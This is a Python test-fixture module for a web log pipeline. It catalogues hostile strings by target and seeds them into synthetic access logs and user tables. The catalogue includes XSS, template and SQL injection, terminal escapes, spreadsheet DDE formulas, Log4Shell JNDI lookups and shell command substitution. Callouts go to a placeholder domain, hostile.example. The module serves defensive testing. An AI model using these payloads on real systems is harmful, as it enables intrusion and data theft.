"""Hostile strings by what they are aimed at, logs and a directory that carry each in every field, and its pages.

What must hold of them does not belong here; that is in `test_hostile`. What is not visible is
written as an escape, so that the file shows what is in it. Whatever a string could do if it were obeyed leaves a trace
that a test can look for: `MARK` in the browser's window, a file's name or an address.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import pyarrow as pa
import pyarrow.parquet as pq

from pipeline.lookup.rows import rows
from pipeline.settings import Settings
from pipeline.warehouse import connect
from pipeline.web.access import Actor, Person, write_person
from pipeline.web.passwords import hash_password

MARK = "trailmark"
_ELSEWHERE = "hostile.example"  # a name that is nobody's, by RFC 2606
_RUN = f"window.{MARK}=1"

# Tags where a page has text. Each would run something, load something, or move what follows somewhere else.
_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<script src=https://{_ELSEWHERE}/x.mjs></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<iframe srcdoc='<script>top.{MARK}=1</script>'></iframe>",
    f"<iframe src=https://{_ELSEWHERE}/></iframe>",
    f"<object data=https://{_ELSEWHERE}/></object>",
    f"<link rel=stylesheet href=https://{_ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=https://{_ELSEWHERE}/'>",
    f"<base href=https://{_ELSEWHERE}/>",
    f"<form action=https://{_ELSEWHERE}/><button>Find</button></form>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<a href=https://{_ELSEWHERE}/ id=q name=q class=time>open</a>",
    "<plaintext>",
    "<xmp>",
]

# Ends of what text may stand in, and comments: what comes after would be read as something else.
_ENDINGS = [
    *(f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>"),
    *(f"</script><script>{_RUN}</script>", f"</style><script>{_RUN}</script>"),
    f"</noscript><script>{_RUN}</script>",
    f"</pre></figure></main></body></html><script>{_RUN}</script>",
    "</td></tr></tbody></table><h1>Signed out</h1>",
    *("</li></ol></main><main>", "</p></dd></div></dl>", "<!--", f"--><script>{_RUN}</script><!--"),
    *(f"<![CDATA[<script>{_RUN}</script>]]>", "<?xml version='1.0'?>", "<!DOCTYPE html [<!ENTITY x 'y'>]>", "]]>"),
    "<",
]

# Quotes that would end an attribute, closed or not, and attributes that do something.
_ATTRIBUTES = [
    *('"', "'", "`", '">', "'>", f'"><script>{_RUN}</script>', f'" onmouseover="{_RUN}'),
    *(f"' onfocus='{_RUN}' autofocus='", f'" autofocus onfocus={_RUN} x="'),
    f'" style="background:url(https://{_ELSEWHERE}/)',
    *(f'x" formaction="https://{_ELSEWHERE}/', f"x onpointerenter={_RUN}", f'"/onwheel={_RUN}//'),
    '" hidden="" id="content',
]

# Addresses that a link must not lead to, or that would be other paths of the page's own.
_ADDRESSES = [
    *(f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"\x01javascript:{_RUN}"),
    *(f"javascript://%0a{_RUN}", f"data:text/html,<script>{_RUN}</script>"),
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    *(f"vbscript:{MARK}", f"//{_ELSEWHERE}/", f"/\\{_ELSEWHERE}/", f"\\\\{_ELSEWHERE}\\share"),
    *(f"https://{_ELSEWHERE}/", f"https://trail@{_ELSEWHERE}:8320/", "?q=x&why=y", "#content", "/sign-out"),
    "x/reveal",
]

# The same once decoded: entities, percent escapes, JavaScript's and CSS's escapes, UTF-7, overlong forms written out.
_ENCODED = [
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
    "&quot;&apos;&amp;&nbsp;&hearts",
    "&NewLine;&Tab;&colon;&lpar;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"%c0%bcscript%c0%be{_RUN}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    "\\3c script\\3e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{_RUN}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<scr\0ipt>{_RUN}</scr\0ipt>",
    f"<img src=x on\0error={_RUN}>",
]

# What a template engine, a script's template or a framework would work out.
_TEMPLATES = [
    *("{{7*7}}", "{{ request.state.actor }}"),
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in (1).__class__.__base__.__subclasses__() %}x{% endfor %}",
    *("{% include '/etc/passwd' %}", "{% endblock %}", "{% raw %}", "{#", "{{", "}}", "${7*7}", "<%= 7*7 %>"),
    *("{{constructor.constructor('return 1')()}}", "@(7*7)"),
]

# Style sheets: what they load, and text put where it covers the page's own.
_STYLES = [
    f"<style>@import 'https://{_ELSEWHERE}/x.css';</style>",
    f"<div style='position:fixed;inset:0;background:url(https://{_ELSEWHERE}/)'>",
    f"}}*{{background:url(https://{_ELSEWHERE}/)}}",
    f"x;behavior:url(https://{_ELSEWHERE}/x.htc)",
    f"expression({_RUN})",
    "</style><style>body{display:none}",
]

# What a terminal obeys: colours, title, clipboard, keys put into the input, cursor moves, and C1 forms of the same.
_TERMINAL = [
    *("\x1b[31mred\x1b[0m", "\x1b[2J\x1b[Hgone", "\x1b[1A\x1b[2Kthe line before", "\x1b[8mhidden", "\x1b[?1049h"),
    *("\x1b[6n", f"\x1b]0;{MARK}\x07", f"\x1b]2;{MARK}\x1b\\", "\x1b]52;c;dG91Y2ggeA==\x07"),
    f"\x1b]8;;https://{_ELSEWHERE}/\x1b\\open\x1b]8;;\x1b\\",
    *("\x1bP+q544e\x1b\\", "\x1bPq#0;2;0;0;0\x1b\\", f"\x1b_{MARK}\x1b\\", "\x1bc", "\x1b", "\x9b31mred"),
    *(f"\x9d0;{MARK}\x9c", "\x85next line", "\a\a\a", "secret\b\b\b\b\b\bpublic", "over\rwritten", "page\fbreak"),
    *("line\vtab", "\x0e\x0f\x11\x13", "\x7f\x7f", "a\0b", "\x1a\x04\x03"),
]

# Writing from right to left, so that a text reads as another: overrides, embeddings, isolates, marks.
_DIRECTIONS = [
    *("invoice\u202efdp.exe", "\u202dforced\u202c", "\u202a\u202bembedded", "\u2066a\u2067b\u2068c"),
    *("\u2069\u202c", "\u200e\u200fmarks\u061c", "user\u202e\u2066 // admin\u2069 \u2066"),
    "\u05d0\u05d1\u05d2 <b> \u0627\u0644\u0639",
]

# What looks like nothing, or like something else: zero widths, fillers, combining runs, letters of other scripts.
_LOOKS = [
    *("ad\u200bmin", "ad\u200cmi\u200dn", "\u2060\u2061\u2062\u2063", "\ufeffbegins with a mark"),
    *("soft\u00adhyphen", "\u180eold separator", "\u3164\u115f\u1160\uffa0", "\u2800\u2800"),
    "\u00a0\u2007\u202f\u3000",
    "z" + "\u0300\u0301\u0317\u0327\u0334\u0353\u0489" * 12,
    *("\u0e49" * 40, "e\u0301\u20dd\u20e3", "\u0430dmin \u0440\u0430ul", "\uff41\uff44\uff4d\uff49\uff4e"),
    "\U0001d5ee\U0001d5f1\U0001d5fa\U0001d5f6\U0001d5fb",
    *("\U000e0041\U000e0042\U000e007f", "\ufff9a\ufffab\ufffb", "\ufffd\ufffe\uffff\U0010ffff", "\ue000\U000f0000"),
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u2764\ufe0f\U0001f1ea\U0001f1fa\U0001f44b\U0001f3fe",
]

# Ends of a line and of a paragraph, where a file or a header has one line for each thing.
_LINES = [
    *("two\nlines", "two\r\nlines", "\n\n\n", "separator\u2028line", "separator\u2029paragraph"),
    *("x\r\nSet-Cookie: trail=1", f"x\r\n\r\n<script>{_RUN}</script>", f"x%0d%0aLocation:%20https://{_ELSEWHERE}/"),
    *("x\u560a\u560dX-Injected: 1", 'visit.csv"\r\nContent-Type: text/html'),
    f'127.0.0.1 - - [02/Mar/2026:09:00:00 +0000] "GET /{MARK} HTTP/1.1" 200 1',
]

# What a spreadsheet works out, in every way that a cell may begin, and behind separators that some countries have.
_FORMULAS = [
    *(f"=cmd|' /C calc {MARK}'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"),
    *("\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", '"=1+1', "'=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1"),
    *("\uff201+1", "\u2212" + "1+1"),
    f'=HYPERLINK("https://{_ELSEWHERE}/?x="&A1,"open")',
    *(f'=WEBSERVICE("https://{_ELSEWHERE}/")', '=DDE("cmd";"/C calc";"!A0")', "x;=1+1;x", 'x",=1+1,"x'),
    *("x\t=1+1\tx", "x\n=1+1", "-2+3+cmd|' /C calc'!A0"),
]

# Questions to a database, and what its text search takes as a pattern.
_SQL = [
    *("' or '1'='1", "'; drop table users; --", '" or ""="', "x' union select secret from settings --"),
    *("1; copy users to 'trailmark.csv'", "$user $1 ? :name %(name)s", "read_text('/etc/passwd')", "%_%"),
    *("\\' or 1=1 --", "/* */ or 1=1 #"),
]

# What a shell, an interpreter or a logger would run or look up; `touch` would leave a file where it runs.
_PROGRAMS = [
    *(f"$(touch {MARK})", f"`touch {MARK}`", f"| touch {MARK}", f"() {{ :; }}; touch {MARK}"),
    f"__import__('os').system('touch {MARK}')",
    f"!!python/object/apply:os.system ['touch {MARK}']",
    *(f"${{jndi:ldap://{_ELSEWHERE}/a}}", f"${{${{lower:j}}ndi:dns://{_ELSEWHERE}/a}}", "${env:HOME}", "--help"),
    *("-rf", "@/etc/passwd"),
]

# Paths out of where a path belongs, and names that a system reads otherwise.
_PATHS = [
    *("../../../../etc/passwd", f"../../{MARK}", "..", ".", "..\\..\\windows\\win.ini", "....//....//etc/passwd"),
    *("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc", f"/tmp/{MARK}"),
    *("~root", "file:///etc/passwd", "s3://bucket/key", "CON", "a/b//c/", "date=2026-03-02", "*?[a]"),
    "a\0.png",
]

# Formats of text that a program would fill in.
_FORMATS = ["%s%s%n%x", "%1$s", "{0}", "{self.__class__}", "{}", "{:>99999}", "%(actor)s", "%Y-%m-%d", "\\g<0>\\1"]

# JSON and other notations: ends of a text, keys that JavaScript gives a meaning, entities, filters.
_NOTATIONS = [
    *('","role":"admin', '"}],"x":[{"', '{"$gt":""}', "\\", '\\"', "\\u0000\\ud800", "__proto__", "constructor"),
    *("prototype.toString", "*)(uid=*))(|(uid=*", "' or count(//user)=1 or 'x'='y"),
    *("<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "![x](https://hostile.example/x.gif)"),
]

# Texts that are taken for values: nothing, numbers beyond what numbers hold, dates, truth.
_VALUES = [
    *("null", "NULL", "None", "NA", "undefined", "NaN", "nan", "Infinity", "true", "--", "-1", "-0", "1e309"),
    *("0x7fffffff", "99999999999999999999999", "1_000"),
    *("\u0661\u0662\u0663", "0000-00-00", "20260302-0000000000000000", " ", "  padded  "),
]

# Texts that take long: of 8 kB, without an end, or with very many ways to match a pattern.
_LONG = [
    *("A" * 8_192, "<b>" * 2_000, "\u202e\u0301" * 1_000, "=" * 2_000, "(" * 2_000, "a" * 60 + "!", "a@" * 100),
    *("1" * 400 + "x", "/".join("x" * 60) + "/", "%" * 300, "Mozilla/5.0 (" + " ;" * 1_000),
]

HOSTILE: dict[str, list[str]] = {
    "elements": _ELEMENTS,
    "endings": _ENDINGS,
    "attributes": _ATTRIBUTES,
    "addresses": _ADDRESSES,
    "encoded": _ENCODED,
    "templates": _TEMPLATES,
    "styles": _STYLES,
    "terminal": _TERMINAL,
    "directions": _DIRECTIONS,
    "looks": _LOOKS,
    "lines": _LINES,
    "formulas": _FORMULAS,
    "sql": _SQL,
    "programs": _PROGRAMS,
    "paths": _PATHS,
    "formats": _FORMATS,
    "notations": _NOTATIONS,
    "values": _VALUES,
    "long": _LONG,
}
STRINGS: list[str] = [text for group in HOSTILE.values() for text in group]

# What is no text: halves of characters, as JSON may escape them, and bytes that are not UTF-8. Each stands between the
# quotes of a JSON text.
NO_TEXT: list[bytes] = [
    *(json.dumps(half)[1:-1].encode() for half in ("\ud800", "x\udfff", "\udc00\ud800")),
    b"\xff\xfe<script>",
    b"\xc0\xbcscript\xc0\xbe",
    b"\xed\xa0\x80",
    b"\xf5\x80\x80\x80",
    b"\xe2\x80",
    b"\x80=1+1",
    b"caf\xe9\x1b[31m",
]

# Logs and a directory of them

HARMLESS = ["harmless words", "harmless"]  # a target with a space is none in a text log: no method, no path, no act
TEXTS = [*HARMLESS, *STRINGS]
LONGEST_ID = 300  # characters of a string that is an id: longer ones fit into no address
BEGIN = datetime(2026, 3, 2, 9, tzinfo=UTC)  # each string has a minute of its own


_CONFIG = """
landing = "landing"
warehouse = "warehouse"
users = "users"
sign_in = "proxy"
sign_in_proxies = "127.0.0.0/8"
access = "access.toml"
"""
_PEOPLE = [Actor("eng@example.net", "engineer", None), Actor("sup@example.net", "support", None)]


def deliver(root: Path) -> None:
    """Write logs, users and settings: each string is a user, who made five lines of JSON, and a line of a text log."""
    for folder in ("landing/json", "landing/text", "users"):
        (root / folder).mkdir(parents=True)
    lines = [line.encode() for place, text in enumerate(TEXTS) for line in _json_lines(place, text)]
    spoilt = json.dumps({"time": BEGIN.isoformat(), "remote_addr": "203.0.113.9", "target": "/", "user_agent": MARK})
    lines += [spoilt.encode().replace(MARK.encode(), half) for half in NO_TEXT]
    (root / "landing" / "json" / "a.log").write_bytes(b"\n".join(lines) + b"\n")
    lines = [_text_line(place, text).encode() for place, text in enumerate(TEXTS)]
    lines += [_text_line(-1, MARK).encode().replace(MARK.encode(), half) for half in NO_TEXT]
    (root / "landing" / "text" / "a.log").write_bytes(b"\n".join(lines) + b"\n")
    ids = [text[:LONGEST_ID] for text in TEXTS]
    tables = {
        "users": {"id": ids, "name": TEXTS, "email": TEXTS},
        "memberships": {"user_id": ids, "business_id": ids, "role": TEXTS},
        "businesses": {"id": ids, "name": TEXTS},
    }
    for name, columns in tables.items():
        pq.write_table(pa.table(columns), root / "users" / f"{name}.parquet")
    people = [Person(actor, hash_password("correct horse battery")) for actor in _PEOPLE]
    (root / "access.toml").write_text("\n".join(map(write_person, people)), encoding="utf-8")
    (root / "trail.toml").write_text(_CONFIG, encoding="utf-8")


def bare_path(target: str) -> str:
    """Cut a query and a fragment off."""
    return re.split("[?#]", target)[0]


def _json_lines(place: int, text: str) -> Iterator[str]:
    """A page, what it loaded, an error, a report of the page, and a method of no act."""
    name, path, said = text[:LONGEST_ID], f"/p/{text}/end", quote(text)
    every: dict[str, object] = dict.fromkeys(("remote_addr", "forwarded_for", "protocol", "remote_user"), name)
    every |= dict.fromkeys(("user_id", "visitor_id", "business_id"), name)
    every |= dict.fromkeys(("referrer", "user_agent", "host"), text)
    every |= {
        "bytes_sent": 7,
        "request_time": 0.1,
        "trace": f"reference-{place}",
        f"{name} key": text,
        "nested": {name: [name]},
    }
    loaded = {"target": f"/{bare_path(text)}/x.css", "referrer": f"https://x{bare_path(path)}"}
    own = [
        {"method": "GET", "target": f"{path}?q={text}&utm_source={text}", "status": 200},
        {"method": "GET", "status": 404} | loaded,
        {"method": "POST", "target": path, "status": 500},
        {"method": "GET", "target": f"/trail/event?e={said}&v=abcd1234&l={said}&p=/p", "status": 204},
        {"method": name, "target": text, "status": 404},
    ]
    for second, fields in enumerate(own):
        at = BEGIN + timedelta(minutes=place, seconds=second)
        yield json.dumps({"time": at.isoformat()} | every | fields, ensure_ascii=False)


def _text_line(place: int, text: str) -> str:
    shown = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    at = f"{BEGIN + timedelta(minutes=place):%d/%b/%Y:%H:%M:%S} +0000"
    return f'203.0.113.9 - - [{at}] "GET /c/{shown}/end HTTP/1.1" 500 7 "{shown}" "{shown}"'


# Where the warehouse has them


@dataclass(frozen=True)
class Case:
    """A string, and what the warehouse made of it."""

    text: str
    visit: str
    act: str
    silent: str
    in_text: str | None

    @property
    def user(self) -> str:
        return self.text[:LONGEST_ID]

    def paths(self, place: int) -> dict[str, str]:
        """Which pages of it are asked for, by a name with who asks; of the dear ones every few strings have each."""
        found = {
            "search sup": f"/?q={quote(self.text[:200])}",
            "user eng": f"/user/{quote(self.user, safe='')}",
            "visit eng": f"/visit/{self.visit}",
            "csv eng": f"/visit/{self.visit}.csv",
            "json eng": f"/visit/{self.visit}.json",
        }
        dear = {
            "act eng": f"/request/{self.act}",
            "silent eng": f"/request/{self.silent}",
            "silent sup": f"/request/{self.silent}",
        }
        if self.in_text:
            dear["text eng"] = f"/request/{self.in_text}"
        everything = self.text in HARMLESS
        return found | {name: path for turn, (name, path) in enumerate(dear.items()) if everything or place % 4 == turn}


def find_cases(settings: Settings) -> list[Case]:
    """Find each string in the tables, in the order of `TEXTS`."""
    with connect(settings) as connection:
        acts = rows(
            connection,
            "select user_id, visit_id, list(request_id order by visit_seq) as acts from clickstream"
            " where source = 'json' group by all",
        )
        other = rows(connection, "select user_id, request_id from requests where source = 'json' and kind = 'other'")
        texts = rows(connection, "select occurred_at, request_id from requests where source = 'text'")
    of_user = {row["user_id"]: row for row in acts}
    silent = {row["user_id"]: row["request_id"] for row in other}
    in_text = {(row["occurred_at"] - BEGIN) // timedelta(minutes=1): row["request_id"] for row in texts}
    assert len(of_user) == len(silent) == len(TEXTS)
    assert {len(row["acts"]) for row in acts} == {3}
    found = []
    for place, text in enumerate(TEXTS):
        row = of_user[text[:LONGEST_ID]]
        found.append(Case(text, row["visit_id"], row["acts"][0], silent[text[:LONGEST_ID]], in_text.get(place)))
    return found
